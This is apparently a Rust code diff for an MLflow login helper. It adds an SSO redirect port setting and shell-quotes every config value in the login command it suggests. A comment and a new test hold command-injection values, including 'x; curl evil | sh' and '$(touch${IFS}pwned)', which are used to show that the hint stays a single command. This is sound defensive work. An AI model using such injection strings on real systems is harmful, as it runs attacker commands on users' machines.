@@ -59,6 +59,7 @@ struct Raw {
     auth: Option<ProjectAuth>,
     issuer: Option<String>,
     client_id: Option<String>,
+    redirect_port: Option<u16>,
     ca_bundle: Option<PathBuf>,
 }
 
@@ -79,6 +80,8 @@ pub struct Project {
     pub issuer: Option<String>,
     /// The SSO client id.
     pub client_id: Option<String>,
+    /// The SSO redirect port the identity provider requires, if it requires one.
+    pub redirect_port: Option<u16>,
     /// A CA bundle, resolved against the project's root.
     pub ca_bundle: Option<PathBuf>,
 }
@@ -137,8 +140,10 @@ pub fn parse(file: &Path, text: &str) -> Result<Project> {
     if let Some(name) = &raw.name {
         validate_name(name).map_err(invalid)?;
     }
-    if raw.auth != Some(ProjectAuth::Sso) && (raw.issuer.is_some() || raw.client_id.is_some()) {
-        return Err(config_error(file, None, "issuer and client_id are for auth = \"sso\""));
+    if raw.auth != Some(ProjectAuth::Sso)
+        && (raw.issuer.is_some() || raw.client_id.is_some() || raw.redirect_port.is_some())
+    {
+        return Err(config_error(file, None, "issuer, client_id and redirect_port are for auth = \"sso\""));
     }
     let root = file.parent().unwrap_or(Path::new(".")).to_path_buf();
     Ok(Project {
@@ -150,6 +155,7 @@ pub fn parse(file: &Path, text: &str) -> Result<Project> {
         auth: raw.auth,
         issuer: raw.issuer,
         client_id: raw.client_id,
+        redirect_port: raw.redirect_port,
     })
 }
 
@@ -193,28 +199,33 @@ impl Project {
 
     /// The command that logs in to this project's server, with the file's settings:
     /// `mlflow-login login NAME --url URL [--auth ...] [--ca-bundle ...]`.
-    /// The file comes from a cloned repository: every value is cleaned of control
-    /// characters (a terminal escape sequence in an `issuer` would otherwise reach the
-    /// prompt).
+    /// The file comes from a cloned repository and the command is there to be copied into a
+    /// shell: every value is one quoted word (an `issuer` of `x; curl evil | sh` must not
+    /// become a second command), and the whole is cleaned of control characters (a terminal
+    /// escape sequence would otherwise reach the prompt).
     pub fn login_command(&self) -> String {
         let cmd = self.login_command_raw();
         crate::verify::clean(&cmd, 1000)
     }
 
     fn login_command_raw(&self) -> String {
+        use crate::shell::shell_word as w;
         let name = self.name.clone().unwrap_or_else(|| self.suggested_name());
-        let mut cmd = format!("mlflow-login login {name} --url {}", self.url);
+        let mut cmd = format!("mlflow-login login {} --url {}", w(&name), w(&self.url));
         if let Some(auth) = self.auth {
             cmd.push_str(&format!(" --auth {}", auth.as_str()));
         }
         if let Some(issuer) = &self.issuer {
-            cmd.push_str(&format!(" --issuer {issuer}"));
+            cmd.push_str(&format!(" --issuer {}", w(issuer)));
         }
         if let Some(client_id) = &self.client_id {
-            cmd.push_str(&format!(" --client-id {client_id}"));
+            cmd.push_str(&format!(" --client-id {}", w(client_id)));
+        }
+        if let Some(port) = self.redirect_port {
+            cmd.push_str(&format!(" --redirect-port {port}"));
         }
         if let Some(ca) = &self.ca_bundle {
-            cmd.push_str(&format!(" --ca-bundle {}", ca.display()));
+            cmd.push_str(&format!(" --ca-bundle {}", w(&ca.to_string_lossy())));
         }
         cmd
     }
@@ -243,7 +254,25 @@ pub fn render(name: &str, server: &Server, ca_bundle: Option<&Path>) -> String {
     let q = |s: &str| toml::Value::String(s.to_string()).to_string();
     out.push_str(&format!("url = {}\n", q(&server.url)));
     out.push_str(&format!("name = {}\n", q(name)));
-    out.push_str(&format!("auth = {}\n", q(if server.auth == crate::AuthKind::Bearer { "bearer" } else { "basic" })));
+    let auth = match server.auth {
+        crate::AuthKind::Basic => ProjectAuth::Basic,
+        crate::AuthKind::Bearer => ProjectAuth::Bearer,
+        crate::AuthKind::Sso => ProjectAuth::Sso,
+    };
+    out.push_str(&format!("auth = {}\n", q(auth.as_str())));
+    // Where the identity provider is, so a teammate's login needs no flags (no secret: the
+    // issuer and the public client's id are what every user's browser sees).
+    if let Some(sso) = server.sso.as_ref().filter(|_| auth == ProjectAuth::Sso) {
+        if let Some(issuer) = &sso.issuer {
+            out.push_str(&format!("issuer = {}\n", q(issuer)));
+        }
+        if let Some(client_id) = &sso.client_id {
+            out.push_str(&format!("client_id = {}\n", q(client_id)));
+        }
+        if let Some(port) = sso.redirect_port {
+            out.push_str(&format!("redirect_port = {port}\n"));
+        }
+    }
     if let Some(ca) = ca_bundle {
         out.push_str(&format!("ca_bundle = {}\n", q(&ca.to_string_lossy())));
     }
@@ -321,9 +350,44 @@ mod tests {
     }
 
     #[test]
+    fn the_login_hint_is_one_command_whatever_the_file_says() {
+        // A cloned repository's file, written to make a copied hint run something else.
+        let p = parse_ok(concat!(
+            "url = \"https://h.example/a$(touch${IFS}pwned)b\"\nauth = \"sso\"\n",
+            "issuer = \"https://idp; touch pwned | sh\"\nclient_id = \"it's `id`\"\nca_bundle = \"c a/ca.pem\"\n",
+        ));
+        let hint = p.login_command();
+        assert!(hint.starts_with("mlflow-login login "), "{hint}");
+        let dir = tempfile::tempdir().unwrap();
+        // The hint as a shell reads it: each word on its own line, nothing run.
+        let script = hint.replacen("mlflow-login", "printf '%s\\n'", 1);
+        let out = std::process::Command::new("sh").arg("-c").arg(&script).current_dir(dir.path()).output().unwrap();
+        assert!(out.status.success(), "{script}: {}", String::from_utf8_lossy(&out.stderr));
+        let words: Vec<String> = String::from_utf8(out.stdout).unwrap().lines().map(str::to_string).collect();
+        assert_eq!(
+            words,
+            [
+                "login",
+                p.name.clone().unwrap_or_else(|| p.suggested_name()).as_str(),
+                "--url",
+                p.url.as_str(),
+                "--auth",
+                "sso",
+                "--issuer",
+                "https://idp; touch pwned | sh",
+                "--client-id",
+                "it's `id`",
+                "--ca-bundle",
+                "/p/c a/ca.pem",
+            ]
+        );
+        assert!(!dir.path().join("pwned").exists());
+    }
+
+    #[test]
     fn parses_every_field() {
         let p = parse_ok(
-            "url = \"https://Host:443/mlflow/\"\nname = \"team\"\nauth = \"sso\"\nissuer = \"https://idp\"\nclient_id = \"mlflow\"\nca_bundle = \"certs/ca.pem\"\n",
+            "url = \"https://Host:443/mlflow/\"\nname = \"team\"\nauth = \"sso\"\nissuer = \"https://idp\"\nclient_id = \"mlflow\"\nredirect_port = 8400\nca_bundle = \"certs/ca.pem\"\n",
         );
         assert_eq!(p.url, "https://host/mlflow");
         assert_eq!(p.name.as_deref(), Some("team"));
@@ -332,7 +396,7 @@ mod tests {
         assert_eq!(p.ca_bundle.as_deref(), Some(Path::new("/p/certs/ca.pem")));
         assert_eq!(
             p.login_command(),
-            "mlflow-login login team --url https://host/mlflow --auth sso --issuer https://idp --client-id mlflow --ca-bundle /p/certs/ca.pem"
+            "mlflow-login login team --url https://host/mlflow --auth sso --issuer https://idp --client-id mlflow --redirect-port 8400 --ca-bundle /p/certs/ca.pem"
         );
     }
 
@@ -405,5 +469,18 @@ mod tests {
         assert_eq!(p.url, "https://h/mlflow");
         assert_eq!(p.name.as_deref(), Some("prod"));
         assert_eq!(p.auth, Some(ProjectAuth::Basic));
+        // A single sign-on server: its kind and where its identity provider is.
+        let mut sso = Server::new_basic("https://h/mlflow", "alice").unwrap();
+        sso.auth = crate::AuthKind::Sso;
+        sso.sso = Some(crate::SsoSettings {
+            issuer: Some("https://idp.example".into()),
+            client_id: Some("mlflow".into()),
+            scopes: vec![],
+            redirect_port: Some(8400),
+        });
+        let p = parse_ok(&render("team", &sso, None));
+        assert_eq!(p.auth, Some(ProjectAuth::Sso));
+        assert_eq!((p.issuer.as_deref(), p.client_id.as_deref()), (Some("https://idp.example"), Some("mlflow")));
+        assert_eq!(p.redirect_port, Some(8400));
     }
 }
